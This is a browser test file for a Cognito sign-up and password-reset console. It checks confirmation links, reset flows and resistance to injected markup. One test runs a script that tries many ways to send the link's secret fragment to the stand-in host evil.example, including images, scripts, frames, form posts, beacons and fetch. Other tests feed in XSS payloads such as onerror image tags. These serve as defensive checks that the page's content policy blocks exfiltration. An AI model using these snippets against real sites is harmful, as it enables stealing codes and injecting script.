import { AdminGetUserCommand, ForgotPasswordCommand } from "@aws-sdk/client-cognito-identity-provider";
import { afterAll, beforeAll, describe, expect, it, jest } from "@jest/globals";
import type { Browser, Page } from "playwright-core";
import { hasBrowser, openBrowser, watchRequests } from "../support/browser.ts";
import {
  clientId,
  cognito,
  eventually,
  mailNumber,
  type ReceivedMail,
  readCode,
  urls,
  userPoolId,
} from "../support/clients.ts";
import { patience } from "../support/patience.ts";
import { newAddress, password, signIn, signUp, signUpConfirmedPerson } from "../support/people.ts";

jest.setTimeout(patience.test);

const describeInBrowser = hasBrowser ? describe : describe.skip;

const linkIn = ({ body }: ReceivedMail) =>
  /href="(http:\/\/localhost:\d+\/\w+\/(?:confirm|reset)#[^"]+)"/.exec(body.html ?? "")?.[1] ?? "";

/** The text of a mail, as its reader would copy it. */
const textOf = (html: string) => {
  const body = html.replace(/<style.*?<\/style>/gs, "").replace(/<[^>]+>/g, " ");
  return body
    .replace(/&#x([0-9a-f]+);/gi, (_, code) => String.fromCodePoint(Number.parseInt(code, 16)))
    .replace(
      /&(amp|lt|gt|quot);/g,
      (_, name: "amp" | "lt" | "gt" | "quot") => ({ amp: "&", lt: "<", gt: ">", quot: '"' })[name],
    );
};

const statusOf = async (Username: string) =>
  (await cognito.send(new AdminGetUserCommand({ UserPoolId: userPoolId, Username }))).UserStatus;

/** The directives of the page's policy that must block requests. */
const refusals = [
  ...["img-src", "script-src-elem", "style-src-elem", "frame-src", "media-src", "object-src"],
  ...["base-uri", "form-action", "connect-src"],
];

/** Tries every way in which a script can send a request. @returns the directives that blocked it */
const tryRequests = `(async () => {
  const refused = [];
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
  const away = "https://evil.example/?" + location.hash.slice(1);
  const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
  add("img", { src: away });
  add("script", { src: away });
  add("script", { textContent: "document.title = 'owned'" });
  add("link", { rel: "stylesheet", href: away });
  add("iframe", { src: away });
  add("video", { src: away });
  add("object", { data: away });
  add("base", { href: away });
  const form = Object.assign(document.createElement("form"), { action: away, method: "post" });
  document.body.append(form);
  form.submit();
  navigator.sendBeacon(away);
  await fetch(away).catch(() => undefined);
  const rest = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
  // Violations are reported one by one; half a second after the last, no more should come.
  for (let tries = 0; tries < 300 && new Set(refused).size < ${refusals.length}; tries += 1) await rest(100);
  await rest(500);
  return refused;
})()`;

describeInBrowser("in a browser", () => {
  let browser: Browser;
  let page: Page;
  let foreign: string[];

  beforeAll(async () => {
    browser = await openBrowser();
  });
  afterAll(() => browser?.close());

  const open = async (link: string) => {
    await page?.close();
    page = await browser.newPage();
    page.setDefaultTimeout(patience.answer);
    foreign = watchRequests(page);
    await page.goto(link);
  };
  /** The console is ready when it lists the app clients: then it shows its first form. */
  const openConsole = async () => {
    await open(urls.console);
    await page.locator("#client option").first().waitFor({ state: "attached" });
  };
  const heading = () => page.locator("h1").textContent();
  const message = async (text: string | RegExp) => page.locator("#message", { hasText: text }).waitFor();

  describe("the link in a mail", () => {
    it("does nothing until its button is pressed, however often a mail scanner opens it", async () => {
      const email = newAddress();
      await signUp(email);
      const link = linkIn(await mailNumber(email, 1));
      for (const method of ["GET", "HEAD"])
        for (let time = 0; time < 20; time += 1) expect((await fetch(link, { method })).status).toBe(200);
      await open(link);
      await page.waitForLoadState("networkidle");
      expect(await statusOf(email)).toBe("UNCONFIRMED");

      await page.getByRole("button", { name: "Confirm email address" }).click();
      await message("Your account is active");
      expect(await statusOf(email)).toBe("CONFIRMED");
      expect(await heading()).toBe("Email address confirmed");
      expect(page.url()).not.toContain("#");
      expect(foreign).toEqual([]);

      await open(link);
      await page.getByRole("button", { name: "Confirm email address" }).click();
      await message(/already confirmed|not valid|expired/);
    });

    it("offers a new mail if the code is wrong, and accepts the new code", async () => {
      const email = newAddress();
      await signUp(email, { locale: "de" });
      const link = linkIn(await mailNumber(email, 1));
      await open(link.replace(/\d{6}$/, (code) => (code === "000000" ? "111111" : "000000")));
      await page.locator("#action").click();
      await page.locator("#message.problem").waitFor();
      await page.locator("#resend").click();
      const code = readCode(await mailNumber(email, 2));
      await page.locator("#code").fill(code);
      await page.locator("#action").click();
      await page.locator("#onward a").waitFor();
      expect(await statusOf(email)).toBe("CONFIRMED");
    });

    it.each([
      ["no fragment", "/en/confirm"],
      ["cut short", `/en/confirm#${clientId}`],
      ["no fragment, for a reset", "/en/reset"],
      ["another app client", "/en/confirm#anotherclient/user/123456"],
      ["an incomplete character", `/en/confirm#${clientId}/%E0%A4/1`],
      ["markup", `/en/reset#${clientId}%3Cimg src=x onerror=alert(1)%3E/a/b`],
    ])("rejects an invalid link: %s", async (_, path) => {
      await open(`${urls.console}${path}`);
      await message("This link is incomplete");
      expect(await page.locator("form:visible").count()).toBe(0);
    });

    it.each(["confirm", "reset"])("lets no script send its code to another host: %s", async (kind) => {
      await open(`${urls.console}/en/${kind}#${clientId}/user/123456`);
      const stopped: string[] = [];
      page.on("requestfailed", (request) => request.failure()?.errorText === "csp" && stopped.push(request.url()));
      const blocked = await page.evaluate<string[]>(tryRequests);
      expect(new Set(blocked)).toEqual(new Set(refusals));
      // Playwright reports a request and its end separately.
      await eventually(async () => (stopped.length >= foreign.length ? true : undefined)).catch(() => undefined);
      expect(stopped.sort()).toEqual(foreign.sort());
      expect(await page.title()).not.toBe("owned");
      expect(new URL(page.url()).hostname).toBe("localhost");
    });

    it("lets a user choose a new password", async () => {
      const { email } = await signUpConfirmedPerson();
      await cognito.send(new ForgotPasswordCommand({ ClientId: clientId, Username: email }));
      await open(linkIn(await mailNumber(email, 3)));
      const save = page.getByRole("button", { name: "Save new password" });
      await save.click();
      await message("Please enter a new password");
      await page.getByLabel("New password", { exact: true }).fill("short");
      await page.getByLabel("Repeat new password").fill("other");
      await save.click();
      await message("The two passwords differ");
      await page.getByLabel("Repeat new password").fill("short");
      await save.click();
      await message("does not follow the rules");
      await page.getByLabel("New password", { exact: true }).fill(`${password}-new`);
      await page.getByLabel("Repeat new password").fill(`${password}-new`);
      await save.click();
      await message("You can sign in with your new password");
      expect((await signIn(email, `${password}-new`)).AuthenticationResult?.IdToken).toBeDefined();
      expect(foreign).toEqual([]);
    });
  });

  it("the link in a notice lets a user start a password reset", async () => {
    const { email } = await signUpConfirmedPerson();
    await open(`${urls.console}/en/reset#${clientId}`);
    await page.getByLabel("Email address").fill(email);
    await page.getByRole("button", { name: "Send a code" }).click();
    await message("a new email is on its way");
    await page.getByLabel("Code").fill(readCode(await mailNumber(email, 3)));
    await page.getByLabel("New password", { exact: true }).fill(`${password}-again`);
    await page.getByLabel("Repeat new password").fill(`${password}-again`);
    await page.getByRole("button", { name: "Save new password" }).click();
    await message("You can sign in with your new password");
    expect((await signIn(email, `${password}-again`)).AuthenticationResult?.IdToken).toBeDefined();
  });

  it("the console asks only an invited user for a new password", async () => {
    const [invited, other] = [newAddress(), newAddress()];
    await openConsole();
    await page.locator("#tab-invite").click();
    await page.locator("#invite [name=email]").fill(invited);
    await page.locator("#invite button[type=submit]").click();
    const { html = "" } = (await mailNumber(invited, 1)).body;
    const [, temporary = ""] = /Temporary password\s+(\S+)/.exec(textOf(html)) ?? [];
    await page.locator("#signin [name=password]").fill(temporary);
    await page.locator("#signin button[type=submit]").click();
    const newPassword = page.locator("#signin [name=newPassword]");
    await newPassword.waitFor();
    await page.locator("#signin [name=email]").fill(other);
    await newPassword.waitFor({ state: "hidden" });
    expect(await newPassword.getAttribute("required")).toBeNull();
  });

  it("the console shows a user's tokens, profile and mails, and treats a hostile name as text", async () => {
    const email = newAddress();
    await openConsole();
    await page.locator("#signup [name=email]").fill(email);
    await page.locator("#signup [name=password]").fill(password);
    await page.locator("#signup [name=given_name]").fill("<img src=x onerror=document.title='owned'>");
    await page.locator("#signup button[type=submit]").click();
    const code = readCode(await mailNumber(email, 1));
    await page.locator("#tab-confirm").click();
    await page.locator("#confirm [name=email]").fill(email);
    await page.locator("#confirm [name=code]").fill(code);
    await page.locator("#confirm button[type=submit]").click();
    await mailNumber(email, 2);
    await page.locator("#tab-signin").click();
    await page.locator("#signin [name=email]").fill(email);
    await page.locator("#signin [name=password]").fill(password);
    await page.locator("#signin button[type=submit]").click();
    await page.locator("#id-token", { hasText: "plan" }).waitFor();
    await page.locator("#profile", { hasText: "<img src=x" }).waitFor();
    await eventually(async () =>
      (await page.locator("#outbox").textContent())?.includes("welcome") ? true : undefined,
    );
    expect(await page.title()).not.toBe("owned");
    expect(foreign).toEqual([]);
  });
});
